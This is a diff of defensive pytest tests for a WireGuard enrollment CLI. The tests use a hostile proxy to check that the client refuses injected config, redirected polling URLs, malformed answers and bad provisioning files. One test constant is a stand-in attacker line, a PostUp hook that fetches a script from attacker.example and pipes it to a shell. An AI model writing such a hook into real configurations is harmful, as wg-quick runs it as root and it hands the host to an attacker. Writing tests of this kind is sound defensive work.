@@ -8,6 +8,7 @@ import shutil
 import stat
 import subprocess
 from pathlib import Path
+from typing import Any
 
 import pytest
 from click.testing import CliRunner, Result
@@ -17,6 +18,7 @@ from dgprov.cli import main
 from dgprov.enrollment import key_pair_from_private
 
 from ..conftest import Running, StartSandbox, example_tenant
+from .hostile import Exchange, hostile, replying
 
 PASSWORD = "Str0ng-Passw0rd!"
 
@@ -246,3 +248,192 @@ def test_whole_chain(
         "enrollment_token"
     ]
     assert token not in text
+
+
+# ------------------------------------------------------------- a proxy that is not what it seems
+
+HOOK = "PostUp = curl -s https://attacker.example/x | sh"
+ALLOWED_KEYS = {
+    "PrivateKey", "Address", "DNS", "MTU", "ListenPort",
+    "PublicKey", "PresharedKey", "AllowedIPs", "Endpoint", "PersistentKeepalive",
+}  # fmt: skip
+
+
+def through(server_url: str, tmp_path: Path, token: str) -> None:
+    """provisioning.json pointing at ``server_url`` (a forwarder in front of the proxy)."""
+    client_files.write(
+        tmp_path / "provisioning.json", client_files.ProvisioningConfig(server_url + "/", token)
+    )
+
+
+def with_hook(body: Any) -> Any:
+    """The create_device answer with a command in HQ's [Interface]."""
+    for config in body["configs"]:
+        if config["network_name"] == "HQ":
+            config["config"] = config["config"].replace("[Interface]\n", f"[Interface]\n{HOOK}\n")
+    return body
+
+
+def keys_in(path: Path) -> set[str]:
+    lines = [line for line in path.read_text().splitlines() if "=" in line]
+    return {line.split("=", 1)[0].strip() for line in lines}
+
+
+def test_hostile_proxy_cannot_put_commands_into_wireguard_files(
+    start_sandbox: StartSandbox, tmp_path: Path
+) -> None:
+    """wg-quick runs PostUp as root: a create_device answer carrying one is refused for that
+    location, and no file written holds anything but the allow-listed keys."""
+    running = start_sandbox(example_tenant())
+    proxy = running.info["proxy_url"]
+
+    def route(exchange: Exchange) -> None:
+        spoiled = exchange.path.endswith("/create_device")
+        exchange.forward(proxy, with_hook if spoiled else None)
+
+    with hostile(route) as forwarder:
+        through(forwarder.url, tmp_path, running.issue("jdoe"))
+        result = enroll(tmp_path)
+    assert result.exit_code == 1, result.output
+    assert "location 'HQ'" in result.output and "PostUp would run a command" in result.output
+    written = sorted((tmp_path / "wg").glob("*.conf"))
+    assert [path.name for path in written] == ["Lab.conf"]
+    for path in written:
+        assert keys_in(path) <= ALLOWED_KEYS and "curl" not in path.read_text()
+    pending = tmp_path / "wg" / "dgprov-pending-key.json"
+    assert str(pending) in result.output.replace("\n", "")
+    assert key_pair_from_private(private_key(written[0])).public in registered_keys(running, "jdoe")
+
+
+def test_refresh_polls_only_the_origin_the_token_went_to(
+    start_sandbox: StartSandbox, tmp_path: Path
+) -> None:
+    """An answer naming another proxy address cannot move where the polling token goes."""
+    running = start_sandbox(example_tenant())
+    proxy = running.info["proxy_url"]
+    with hostile(replying(200, {})) as elsewhere:
+
+        def elsewhere_named(body: Any) -> Any:
+            instances = [body.get("instance"), (body.get("device_config") or {}).get("instance")]
+            for instance in filter(None, instances):
+                instance["proxy_url"] = elsewhere.url + "/"
+            return body
+
+        with hostile(lambda exchange: exchange.forward(proxy, elsewhere_named)) as forwarder:
+            through(forwarder.url, tmp_path, running.issue("jdoe"))
+            assert enroll(tmp_path).exit_code == 0
+            args = ["enroll", "--refresh", "--output-dir", str(tmp_path / "wg")]
+            refreshed = CliRunner().invoke(main, args)
+            again = CliRunner().invoke(main, args)
+        state = json.loads((tmp_path / "wg" / "dgprov-enrollment.json").read_text())
+    assert refreshed.exit_code == 0 and again.exit_code == 0, refreshed.output + again.output
+    assert elsewhere.received == []
+    assert state["instance"]["proxy_url"] == forwarder.url + "/"
+
+
+@pytest.mark.parametrize(
+    ("where", "spoil", "message"),
+    [
+        ("/start", lambda body: {k: v for k, v in body.items() if k != "user"}, "'user'"),
+        ("/start", lambda body: {**body, "user": {**body["user"], "enrolled": "no"}}, "'enrolled'"),
+        ("/create_device", lambda body: {**body, "configs": {}}, "'configs' is an object"),
+        ("/create_device", lambda body: {**body, "device": None}, "'device' is missing"),
+    ],
+)
+def test_malformed_proxy_answer_is_one_clear_error(
+    start_sandbox: StartSandbox, tmp_path: Path, where: str, spoil: Any, message: str
+) -> None:
+    running = start_sandbox(example_tenant())
+    proxy = running.info["proxy_url"]
+
+    def route(exchange: Exchange) -> None:
+        exchange.forward(proxy, spoil if exchange.path.endswith(where) else None)
+
+    with hostile(route) as forwarder:
+        through(forwarder.url, tmp_path, running.issue("jdoe"))
+        result = enroll(tmp_path)
+    assert result.exit_code == 1, result.output
+    assert isinstance(result.exception, SystemExit) and "Traceback" not in result.output
+    assert "the enrollment proxy answered 200: unusable answer" in result.output
+    assert message in result.output
+    if where == "/create_device":  # registered, but the key is kept for the re-run
+        assert "dgprov-pending-key.json" in result.output
+
+
+# ---------------------------------------------------------------- provisioning.json, local files
+
+
+@pytest.mark.parametrize(
+    ("url", "token", "field"),
+    [
+        ("http://enroll.corp.example/", "A" * 32, "enrollment_url"),
+        ("https://user:secret@{host}/", "A" * 32, "enrollment_url"),
+        ("{origin}/", "AAAA AAAA", "enrollment_token"),
+        ("{origin}/", "AAAA\u00e9AAA", "enrollment_token"),
+    ],
+)
+def test_provisioning_json_is_checked_before_any_network_call(
+    tmp_path: Path, url: str, token: str, field: str
+) -> None:
+    """The rules of fetch-config (https, http on loopback only; a printable token), before the
+    token is sent anywhere."""
+    with hostile(replying(500, {})) as server:
+        host = server.url.removeprefix("http://")
+        document = {
+            "enrollment_url": url.format(origin=server.url, host=host),
+            "enrollment_token": token,
+        }
+        (tmp_path / "provisioning.json").write_text(json.dumps(document))
+        result = enroll(tmp_path)
+    assert result.exit_code == 2, result.output
+    assert f"provisioning.json: {field}: " in result.output.replace("\n", "")
+    assert "nothing was sent" in result.output
+    assert server.received == []
+    assert token not in result.output and "secret" not in result.output
+
+
+def test_unwritable_output_dir_registers_nothing(
+    start_sandbox: StartSandbox, tmp_path: Path
+) -> None:
+    running = start_sandbox(example_tenant())
+    provisioning_file(tmp_path, running, running.issue("jdoe"))
+    (tmp_path / "a-file").write_text("not a directory")
+    result = enroll(tmp_path, "--output-dir", str(tmp_path / "a-file" / "wg"))
+    assert result.exit_code == 2, result.output
+    assert "--output-dir" in result.output and "nothing was registered" in result.output
+    assert registered_keys(running, "jdoe") == []
+
+
+@pytest.mark.parametrize("finish", ["enroll again", "refresh"])
+def test_a_failed_write_keeps_the_key_and_the_rerun_reuses_the_device(
+    start_sandbox: StartSandbox, tmp_path: Path, finish: str
+) -> None:
+    """The device exists when the files are written. If that fails, the key waits in a 0600
+    file whose path is printed, and the next run finishes with the same device."""
+    running = start_sandbox(example_tenant())
+    provisioning_file(tmp_path, running, running.issue("jdoe"))
+    blocked = ["HQ.conf"] if finish == "enroll again" else ["HQ.conf", "Lab.conf"]
+    for name in blocked:  # a directory where the file should go: the write fails
+        (tmp_path / "wg" / name).mkdir(parents=True)
+    failed = enroll(tmp_path)
+    assert failed.exit_code == 1, failed.output
+    pending = tmp_path / "wg" / "dgprov-pending-key.json"
+    assert str(pending) in failed.output.replace("\n", "")
+    assert stat.S_IMODE(pending.stat().st_mode) == 0o600
+    kept = key_pair_from_private(json.loads(pending.read_text())["private_key"])
+    assert registered_keys(running, "jdoe") == [kept.public]
+    assert kept.private not in failed.output
+    assert running.core.get("/api/v1/user/jdoe").json()["user"]["enrolled"] is True
+    for name in blocked:
+        (tmp_path / "wg" / name).rmdir()
+    if finish == "enroll again":
+        result = enroll(tmp_path, password=None)
+    else:
+        result = CliRunner().invoke(
+            main, ["enroll", "--refresh", "--output-dir", str(tmp_path / "wg")]
+        )
+    assert result.exit_code == 0, result.output
+    assert registered_keys(running, "jdoe") == [kept.public]  # still one device
+    for name in ("HQ.conf", "Lab.conf"):
+        assert private_key(tmp_path / "wg" / name) == kept.private
+    assert not pending.exists()
